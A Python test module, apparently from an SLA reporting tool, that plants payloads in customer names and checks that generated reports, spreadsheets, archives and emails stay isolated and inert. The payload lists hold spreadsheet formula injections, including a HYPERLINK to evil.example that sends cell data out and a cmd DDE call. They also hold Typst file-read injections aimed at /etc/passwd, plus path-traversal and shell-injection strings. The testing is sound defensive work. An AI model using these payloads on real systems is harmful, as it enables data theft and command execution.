"""A vendor with many customers, each with a word of its own in every text, and payloads in its names: who sees what of whom?

`python -m tests.delivery.canaries FOLDER --customers 200` builds it in FOLDER, writes and sends all reports, and judges each one.
"""

from __future__ import annotations

import argparse
import csv
import email
import io
import json
import random
import re
import zipfile
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import default
from pathlib import Path
from typing import cast

import openpyxl
import pypdf

from tests.end_to_end.command_line import run_at_once, run_sla
from tests.end_to_end.small_vendor import EVENTS_HEADER, TERMS_HEADER, TICKETS_HEADER

MONTH = "2026-02"
# Typst code and formulas that are evaluated show this number, which stands in none of them.
EVALUATED = "1337"
_CUSTOMERS_A_COMMAND = 25
_TOKEN = re.compile(r"canary[0-9]{3}x")

FORMULAS = tuple(
    start + body
    for start in ("=", "+", "-", "@", "\t=", " =", ";=", "'=", "=-", "{=")
    for body in ("7*191", "SUM(7*191)", 'HYPERLINK("http://evil.example/?"&A1,"x")', "cmd|'/C calc'!A0", "A1:A9", "IMPORTXML(A1)")
)  # fmt: skip
TYPST = (
    "#{7*191}", "#(7*191)", "#eval(\"7*191\")", "#str(7*191)", "#calc.pow(2,3)", "#let x = 7*191", "#[x]#(7*191)",
    "#read(\"/etc/passwd\")", "#read(\"sla.yml\")", "#image(\"/etc/passwd\")", "#include \"main.typ\"", "#import \"x.typ\": *",
    "#sys.inputs", "#sys.version", "#panic(\"x\")", "#assert(false)", "#while true {}", "#for i in range(9) [a]",
    "#link(\"http://evil.example\")[x]", "http://evil.example/x", "#raw(\"x\")", "```typ #(7*191)```", "`#(7*191)`",
    "$7*191$", "$#(7*191)$", "*bold*", "_word_", "= Heading", "- item", "+ item", "/ term: x", "<label>", "@label",
    "\\\\#(7*191)", "]#(7*191)[", "\"#(7*191)", "}#(7*191){", "// comment", "/* comment", "#set page(width: 1pt)",
)  # fmt: skip
PATHS = (
    "../../escape", "..\\..\\escape", "/etc/escape", "C:\\escape", "a/../../../escape", "./escape", "..", ".", "~/escape",
    "~root/escape", "file:///etc/escape", "\\\\server\\share", "escape\\", "escape/", "-rf escape", "--out=escape",
    "$(touch escape)", "`touch escape`", "escape; touch escape", "escape | tee escape", "escape > escape", "&escape&",
    "%2e%2e%2fescape", "..%2fescape", "%00escape", "con", "nul.txt", "aux", "LPT1", "a:b", "a*b?", "\"escape\"", "<escape>",
    "escape.pdf", "escape.pdf/x", "....//escape", "/dev/null", "/proc/self/mem", "$HOME/escape", "${HOME}",
)  # fmt: skip
PAYLOADS = (*FORMULAS, *TYPST, *PATHS)


@dataclass(frozen=True)
class Canary:
    """One customer: the word that stands in all of its texts, and the payload in its names. `name` and `subject` hold both."""

    number: int
    payload: str

    @property
    def token(self) -> str:
        return f"canary{self.number:03d}x"

    @property
    def customer_id(self) -> str:
        return f"c-{self.token}"

    @property
    def name(self) -> str:
        return f"{self.payload} {self.token}"

    @property
    def subject(self) -> str:
        return f"{self.payload} of {self.token}"


def list_canaries(count: int) -> list[Canary]:
    """That many customers: every payload in turn, and plain names where there are more customers than payloads."""
    # Of a few, some of each kind.
    step = max(1, len(PAYLOADS) // count) if count < len(PAYLOADS) else 1
    chosen = PAYLOADS[::step][:count]
    return [Canary(number, chosen[number] if number < len(chosen) else "Plain") for number in range(count)]


def build_vendor(root: Path, canaries: list[Canary]) -> None:
    """A workspace in which February 2026 is over: two tickets of each customer, one breached and waived or not."""
    run_sla("init", str(root)).expect(0)
    (root / "sla.yml").write_text(
        'compare_plans: []\nperiods: {first_month: "2026-02"}\nsources:\n  desk: {type: canonical}\n'
        "delivery:\n  sender: reports@vendor.example\n  first_month: 2026-02\n  allowed_domains: [x.example]\n"
        "  most_undecided_points: 100\n",
        encoding="utf-8",
    )
    reference = root / "reference"
    write_table(
        reference / "customers.csv",
        "customer_id,name,time_zone,locale,report_recipients",
        (
            (
                each.customer_id,
                each.name,
                "UTC",
                ("en", "de", "fr")[each.number % 3],
                f"{each.token}@x.example",
            )
            for each in canaries
        ),
    )
    plans = ("standard", "enhanced", "premium")
    write_table(
        reference / "subscriptions.csv",
        TERMS_HEADER,
        (
            (
                f"S-{each.token}",
                each.customer_id,
                plans[each.number % 3],
                "2026-01-01",
                "2027-01-01",
                "paid",
                "active",
            )
            for each in canaries
        ),
    )
    write_table(
        reference / "waivers.csv",
        (reference / "waivers.csv").read_text(encoding="utf-8").splitlines()[0],
        (
            (f"W-{each.token}", f"T-{each.token}-2", "first_response", f"{each.payload} waived {each.token}",
             f"{each.token}@vendor.example", f"boss-{each.token}@vendor.example", "2026-02-20T09:00:00Z", "")
            for each in canaries
            if each.number % 2
        ),
    )  # fmt: skip
    tickets, events = [], []
    # The rows of customers stand mixed: what a reader mixes up is then seen.
    for place, each in enumerate(random.Random(7).sample(canaries, len(canaries))):
        for number, day in ((1, 2), (2, 5)):
            ticket_id, at = f"T-{each.token}-{number}", f"2026-02-02T08:{place % 60:02d}:00Z"
            tickets.append(
                (ticket_id, each.customer_id, f"{each.token}@x.example", "web_form", "3", at, each.subject, f"kind-{each.token}",
                 f"tag-{each.token}", f"2026-02-{day:02d}T12:00:00Z")
            )  # fmt: skip
            events.append(
                (f"E-{ticket_id}", ticket_id, f"2026-02-{day:02d}T12:00:00Z", "message", "agent", f"mia-{each.token}", "true", "")
            )  # fmt: skip
    # Something of March, so that the data is known beyond the end of February.
    last = canaries[0]
    events.append(
        (
            f"E-{last.token}-3",
            f"T-{last.token}-1",
            "2026-03-20T12:00:00Z",
            "message",
            "agent",
            f"mia-{last.token}",
            "true",
            "",
        )
    )
    write_table(root / "inbox" / "desk" / "tickets.csv", TICKETS_HEADER, tickets)
    write_table(root / "inbox" / "desk" / "events.csv", EVENTS_HEADER, events)


def write_table(path: Path, header: str, rows: Iterable[Iterable[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(header.split(","))
        writer.writerows(rows)


def write_outputs(root: Path, out: Path, canaries: list[Canary]) -> None:
    """Every report with its evidence, by two commands at a time, with customers in an order of their own; then the mails."""
    mixed = random.Random(11).sample([each.customer_id for each in canaries], len(canaries))
    size = min(_CUSTOMERS_A_COMMAND, (len(mixed) + 1) // 2)
    calls = []
    for part in (mixed[start : start + size] for start in range(0, len(mixed), size)):
        named = [word for customer_id in part for word in ("--customer", customer_id)]
        calls.append(("report", "--month", MONTH, "--out", str(out), "--evidence", *named))
    for finished in run_at_once(*calls, workspace=root):
        finished.expect(0)
    run_sla("send", workspace=root).expect(0)


def judge_outputs(root: Path, out: Path, canaries: list[Canary]) -> Counter[str]:
    """How many outputs of each kind were read. Asserts that each holds its own word alone, and no payload that took effect."""
    judged: Counter[str] = Counter()
    by_token = {each.token: each for each in canaries}
    for path in sorted(out.iterdir()):
        [token] = set(_TOKEN.findall(path.name))
        own = by_token[token]
        ending = "".join(path.suffixes[-1:])
        judged[ending] += 1
        for what, text in read_output(path.name, path.read_bytes(), own):
            assert_own(own, f"{path.name}: {what}", text)
    for path in sorted((root / "reports" / "outbox").iterdir()):
        mail = cast(EmailMessage, email.message_from_bytes(path.read_bytes(), policy=default))
        [token] = set(_TOKEN.findall(str(mail["To"])))
        own = by_token[token]
        judged["mail"] += 1
        assert len(mail["To"].addresses) == 1 and mail["Bcc"] is None and mail["Cc"] is None
        body = cast(EmailMessage, mail.get_body()).get_content()
        assert_own(
            own, f"{path.name}: headers", "\n".join(f"{name}: {value}" for name, value in mail.items())
        )
        assert_own(own, f"{path.name}: body", body)
        for part in mail.iter_attachments():
            name = part.get_filename() or ""
            assert_own(own, f"{path.name}: name of an attachment", name)
            for what, text in read_output(name, part.get_content(), own):
                assert_own(own, f"{path.name}: {name}: {what}", text)
    return judged


def assert_own(own: Canary, what: str, text: str) -> None:
    found = set(_TOKEN.findall(text))
    assert found == {own.token}, f"{what} holds {sorted(found)}, not {own.token} alone"


def read_output(name: str, content: bytes, own: Canary) -> Iterator[tuple[str, str]]:
    """The texts of one output, and what in it could take effect, judged on the way."""
    ending = name.rpartition(".")[2]
    if ending == "pdf":
        reader = pypdf.PdfReader(io.BytesIO(content))
        text = "\n".join(page.extract_text() for page in reader.pages)
        assert EVALUATED not in text and "root:x:" not in text
        assert [page for page in reader.pages if "/Annots" in page and _links(page)] == []
        # What was typed is printed, letter by letter, as far as lines and fonts leave it whole.
        assert re.sub(r"\s", "", own.payload) in re.sub(r"\s", "", text), (
            f"{name} does not print {own.payload!r}"
        )
        yield "pages", text
        yield (
            "metadata",
            f"{reader.metadata}\n{reader.trailer['/Root'].get('/Metadata', {}).get_object().get_data().decode()}",
        )
        for attached, contents in reader.attachments.items():
            for inner in contents:
                yield f"attachment {attached}", attached + inner.decode("utf-8")
                assert_inert_csv(inner.decode("utf-8-sig"))
    elif ending == "xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            for part in parts.namelist():
                xml = parts.read(part).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml, f"{name}: {part}"
                assert "externalLink" not in part
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
        yield "cells", "\n".join(str(cell.value) for cell in cells)
        yield "properties", f"{book.properties.title}"
    elif ending == "csv":
        text = content.decode("utf-8-sig")
        assert_inert_csv(text)
        yield "text", text
    elif ending == "zip":
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            assert all(".." not in part and not part.startswith("/") for part in parts.namelist())
            # Calendars and clauses are those of all; what names a customer names this one.
            yield "parts", "\n".join(parts.read(part).decode("utf-8") for part in parts.namelist())
    else:
        raise AssertionError(f"{name} is an output that nothing judges")


def _links(page: pypdf.PageObject) -> list[object]:
    annotations = [each.get_object() for each in page["/Annots"]]
    # Links within the document are those of its contents.
    return [each for each in annotations if "/URI" in str(each.get("/A", ""))]


def assert_inert_csv(text: str) -> None:
    """No cell begins like a formula, also where a spreadsheet would separate by semicolons."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            for part in cell.split(";"):
                is_number = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", part)
                assert (
                    is_number or not part.startswith(("=", "+", "-", "@", "\t", "\r")) or part.startswith("'")
                ), cell


def try_canaries(root: Path, out: Path, count: int) -> Counter[str]:
    """Build, write, send and judge; asserts that nothing was written outside of the folders for it."""
    canaries = list_canaries(count)
    build_vendor(root, canaries)
    run_sla("ingest", workspace=root).expect(0)
    run_sla("build", workspace=root).expect(0)
    run_sla("close", "--month", MONTH, workspace=root).expect(0)
    above = sorted(root.parent.iterdir())
    write_outputs(root, out, canaries)
    assert sorted(root.parent.iterdir()) == sorted({*above, out})
    written = [path for path in (*out.rglob("*"), *root.rglob("*")) if "escape" in path.name]
    assert written == []
    judged = judge_outputs(root, out, canaries)
    assert judged == dict.fromkeys((".pdf", ".csv", ".xlsx", ".zip", "mail"), count)
    return judged


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--customers", type=int, default=200)
    asked = parser.parse_args()
    judged = try_canaries(asked.folder / "vendor", asked.folder / "out", asked.customers)
    print(json.dumps(judged))


if __name__ == "__main__":
    main()
